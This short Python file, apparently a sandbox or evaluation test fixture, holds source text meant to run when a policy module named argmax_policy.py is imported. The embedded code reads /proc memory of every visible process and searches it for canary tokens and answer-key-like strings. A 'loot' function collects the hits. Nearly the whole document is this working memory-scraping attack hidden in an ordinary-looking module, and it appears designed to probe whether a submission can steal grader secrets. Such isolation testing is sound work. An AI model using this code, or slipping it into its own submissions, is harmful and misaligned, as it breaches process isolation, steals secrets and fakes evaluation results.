"""Reads the memory of its parents and of every process it can see."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import os, re, time

SECRET = re.compile(rb"CANARY-[0-9a-f]{16}|qa_tp1_values, 1, next_" rb"ac_n")

def scan(pid, limit):
    with open(f"/proc/{pid}/maps") as file:
        areas = [line.split() for line in file]
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for area in areas:
            if "r" not in area[1] or (len(area) > 5 and area[5].startswith(("/", "[v"))):
                continue
            first, last = (int(x, 16) for x in area[0].split("-"))
            for start in range(first, last, 1 << 24):
                if time.monotonic() > limit:
                    return
                try:
                    memory.seek(start)
                    data = memory.read(min(1 << 24, last - start))
                except (OSError, ValueError, OverflowError):
                    break
                if hit := SECRET.search(data):
                    yield f"{pid}: {hit[0].decode()}"

def loot():
    found, limit = [], time.monotonic() + 1.5
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            found += scan(pid, limit)
        except OSError:
            pass
    return found[:5]
"""
}
